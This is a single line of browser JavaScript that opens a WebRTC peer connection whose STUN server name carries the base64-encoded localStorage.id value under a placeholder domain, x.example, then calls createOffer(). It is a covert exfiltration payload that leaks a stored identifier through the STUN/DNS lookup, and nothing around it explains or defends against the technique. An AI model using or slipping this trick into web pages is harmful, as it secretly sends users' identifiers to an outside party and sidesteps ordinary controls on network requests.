new RTCPeerConnection({ iceServers: [{ urls: `stun:${btoa(localStorage.id)}.x.example` }] }).createOffer();
